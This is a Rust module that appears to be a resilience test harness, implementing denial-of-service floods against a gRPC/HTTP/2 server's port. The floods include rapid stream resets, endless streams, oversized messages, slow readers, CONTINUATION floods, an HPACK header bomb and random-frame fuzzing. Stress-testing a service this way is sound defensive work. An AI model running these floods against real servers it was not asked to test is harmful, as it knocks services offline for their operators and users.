//! Attacks on the gRPC port.

use std::cell::Cell;
use std::net::SocketAddr;
use std::time::Instant;

use rand::Rng;
use rand::rngs::SmallRng;

use crate::attack::{AFAR, connect_from, keep_each, noise};
use crate::http2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, Speaker,
    WINDOW_MAX, WINDOW_UPDATE, call, frame, header, message, settings, whole_call, window,
};

/// Number of connections of one attack.
const SOCKETS: usize = 40;

/// One step of an attack on a connection, given with its index.
type Act<'a> = &'a mut dyn FnMut(&mut Speaker, usize);

/// Keeps connections busy with `act`, which is called whenever the previous data was sent.
fn attack(at: SocketAddr, until: Instant, first: &[u8], listens: bool, act: Act<'_>) {
    keep_each(
        SOCKETS,
        until,
        || Speaker::open(at, first),
        |speaker, n| {
            if speaker.is_idle() {
                act(speaker, n);
            }
            speaker.send()?;
            if listens {
                speaker.listen()?;
            }
            if speaker.sent_away { Err(std::io::ErrorKind::ConnectionAborted.into()) } else { Ok(()) }
        },
    );
}

/// Messages with a declared length that is too large, or that are sent for the most part but never completed; some in the
/// smallest frames, mixed with frames of unknown types.
pub(crate) fn giant_messages(at: SocketAddr, until: Instant) {
    let declared = [u32::MAX, 16 << 20, 15 << 20, 1 << 20];
    let bytes = vec![b'x'; 16 << 10];
    let (unknown, empty) = (frame(0xbb, 0, 0, &bytes), |stream| frame(DATA, 0, stream, &[]).repeat(1000));
    attack(at, until, &settings(WINDOW_MAX), true, &mut |speaker, n| {
        let open = speaker.open_streams();
        if open.len() < 32 {
            let stream = speaker.stream();
            let method = if n % 2 == 0 { "Put" } else { "Upload" };
            speaker.say(&frame(HEADERS, END_HEADERS, stream, &call(method)));
            speaker.say_data(stream, &message(declared[stream as usize / 2 % declared.len()], &[]));
        }
        for stream in open {
            match n % 5 {
                0 => {
                    for _ in 0..200 {
                        speaker.say_data(stream, b"x");
                    }
                }
                1 => {
                    speaker.say_data(stream, b"x");
                    speaker.say(&unknown);
                }
                2 => speaker.say(&empty(stream)),
                _ => {
                    speaker.say_data(stream, &bytes);
                }
            }
        }
    });
}

/// Thousands of concurrent calls on every connection, none of which ends.
pub(crate) fn many_streams(at: SocketAddr, until: Instant) {
    attack(at, until, &settings(WINDOW_MAX), true, &mut |speaker, _| {
        for _ in 0..500 {
            let stream = speaker.stream();
            speaker.say(&frame(HEADERS, END_HEADERS, stream, &call("Upload")));
        }
    });
}

/// Calls that are cancelled as soon as they are made.
pub(crate) fn resets(at: SocketAddr, until: Instant) {
    attack(at, until, &settings(WINDOW_MAX), true, &mut |speaker, n| {
        for _ in 0..100 {
            let stream = speaker.stream();
            match n % 2 {
                0 => speaker.say(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &call("Get"))),
                _ => speaker.say(&whole_call(stream, "Get", b"\x0a\x05large")),
            }
            speaker.say(&frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
    });
}

/// Calls with large responses that are not read, so that the socket or the window is full.
pub(crate) fn slow_readers(at: SocketAddr, until: Instant) {
    // A transaction of three gets.
    let txn: Vec<u8> =
        (0..3).flat_map(|n| [b"\x12\x09\x0a\x07\x0a\x05fill".as_slice(), &[b'1' + n]].concat()).collect();
    let wanted: [(&str, &[u8]); 5] = [
        ("Get", b"\x0a\x05large"),
        ("Download", b"\x0a\x05large"),
        ("Scan", b""),
        ("MultiGet", b"\x0a\x05large\x0a\x05large\x0a\x05large"),
        ("Txn", &txn),
    ];
    let mut ask = |speaker: &mut Speaker, n: usize| {
        if speaker.open_streams().len() < 64 {
            let stream = speaker.stream();
            let (method, bytes) = wanted[(n + stream as usize / 2) % wanted.len()];
            speaker.say(&whole_call(stream, method, bytes));
        }
    };
    let wide = [settings(WINDOW_MAX), window(0, WINDOW_MAX - (64 << 10))].concat();
    let half = until.saturating_duration_since(Instant::now()) / 2;
    attack(at, until - half, &wide, false, &mut ask);
    attack(at, until, &settings(0), true, &mut ask);
}

/// The maximum number of watches of all keys, with small and large queues, that are not read, and writes for them.
pub(crate) fn watches(at: SocketAddr, until: Instant) {
    let mut ask = |speaker: &mut Speaker, n: usize| {
        if speaker.open_streams().len() < 64 {
            let stream = speaker.stream();
            let watch: &[u8] = if n.is_multiple_of(8) { b"\x18\x01" } else { b"\x18\x01\x20\x80\x80\x04" };
            speaker.say(&whole_call(stream, "Watch", watch));
        }
        let put = [b"\x0a\x07watched\x12\xe8\x07".as_slice(), &[b'x'; 1000]].concat();
        for _ in 0..4 {
            let stream = speaker.stream();
            speaker.say(&whole_call(stream, "Put", &put));
        }
    };
    let half = until.saturating_duration_since(Instant::now()) / 2;
    let wide = [settings(WINDOW_MAX), window(0, WINDOW_MAX - (64 << 10))].concat();
    attack(at, until - half, &wide, false, &mut ask);
    attack(at, until, &settings(0), true, &mut ask);
}

/// Writes with request ids, whose answers must be kept, with large answers; many are cancelled while they run.
pub(crate) fn remembered(at: SocketAddr, until: Instant) {
    let mut next = 0_u64;
    attack(at, until, &settings(WINDOW_MAX), true, &mut |speaker, n| {
        for _ in 0..20 {
            next += 1;
            let id = [b"\x1a\x10".as_slice(), &[n as u8; 8], &next.to_be_bytes()].concat();
            let put =
                [b"\x0a\x04mine\x12\xd0\x0f".as_slice(), &[b'x'; 2000], b"\x38\x01\x2a\x12", &id].concat();
            let stream = speaker.stream();
            speaker.say(&whole_call(stream, "Put", &put));
            if n % 2 == 0 {
                speaker.say(&frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
        }
    });
}

/// Connections that stop before the first call, and floods of frames without effect.
pub(crate) fn half_open(at: SocketAddr, until: Instant) {
    let pings = frame(PING, 0, 0, &[7; 8]).repeat(1000);
    let empty = [frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, ACK, 0, &[])].concat().repeat(500);
    let unfinished = frame(HEADERS, 0, 1, &call("Get"));
    attack(at, until, &[], false, &mut |speaker, n| match n % 6 {
        0 => {}
        1 => speaker.say(&settings(0)[..5]),
        2 => speaker.say(&pings),
        3 => speaker.say(&empty),
        4 => speaker.say(&unfinished),
        _ => speaker.say(&[settings(0), window(0, 1).repeat(500)].concat()),
    });
}

/// Endless metadata: in one block, in continuation blocks, and as short references to large headers.
pub(crate) fn unbounded_metadata(at: SocketAddr, until: Instant) {
    let large = header("x-large", &"x".repeat(16_000));
    let many = header("x", "y").repeat(3000);
    // Added to the dynamic table with its first use, and referenced by one byte from then on.
    let mut remembered = header("x-large", &"x".repeat(3800));
    remembered[0] = 0x40;
    let bomb = [call("Get"), remembered, vec![0x80 | 62; 12_000]].concat();
    attack(at, until, &settings(WINDOW_MAX), true, &mut |speaker, n| {
        let stream = speaker.stream();
        match n % 4 {
            0 => {
                speaker.say(&frame(
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    stream,
                    &[call("Get"), many[..9000].to_vec()].concat(),
                ));
            }
            1 | 2 => {
                speaker.say(&frame(HEADERS, END_STREAM, stream, &call("Get")));
                let block = if n % 4 == 1 { &large } else { &many[..15_000].to_vec() };
                speaker.say(&frame(CONTINUATION, 0, stream, block).repeat(200));
            }
            _ => speaker.say(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb)),
        }
    });
}

/// Connections from another address that check health, which needs no login, and then stay silent.
pub(crate) fn silent_health_checkers(at: SocketAddr, until: Instant) {
    let method = |name| header(":path", &format!("/grpc.health.v1.Health/{name}"));
    let head = [
        header(":method", "POST"),
        header(":scheme", "http"),
        header(":authority", "x"),
        header("content-type", "application/grpc"),
        header("te", "trailers"),
    ]
    .concat();
    let ask = |name| {
        let call = frame(HEADERS, END_HEADERS, 1, &[method(name), head.clone()].concat());
        [settings(WINDOW_MAX), call, frame(DATA, END_STREAM, 1, &message(0, &[]))].concat()
    };
    let firsts = [ask("Check"), ask("Watch")];
    let opened = Cell::new(0);
    let open = || {
        opened.set(opened.get() + 1);
        Speaker::on(connect_from(AFAR, at)?, &firsts[opened.get() % 2])
    };
    keep_each(SOCKETS * 3, until, open, |speaker, _| {
        speaker.send()?;
        speaker.listen()?;
        if speaker.sent_away { Err(std::io::ErrorKind::ConnectionAborted.into()) } else { Ok(()) }
    });
}

/// Random bytes, and random frames.
pub(crate) fn random(at: SocketAddr, until: Instant, random: &mut SmallRng) {
    attack(at, until, &settings(WINDOW_MAX), true, &mut |speaker, n| {
        if n % 4 == 0 {
            return speaker.say(&noise(random));
        }
        let kinds = [DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, random.random()];
        let payload = match random.random_range(0..3) {
            0 => call("Put"),
            1 => message(random.random_range(0..100), &noise(random)),
            _ => (0..random.random_range(0..40)).map(|_| random.random()).collect(),
        };
        let kind = kinds[random.random_range(0..kinds.len())];
        let mut bytes = frame(kind, random.random(), random.random_range(0..9), &payload);
        if n % 4 == 1 {
            bytes = [PREFACE, &bytes].concat();
        }
        speaker.say(&bytes);
    });
}
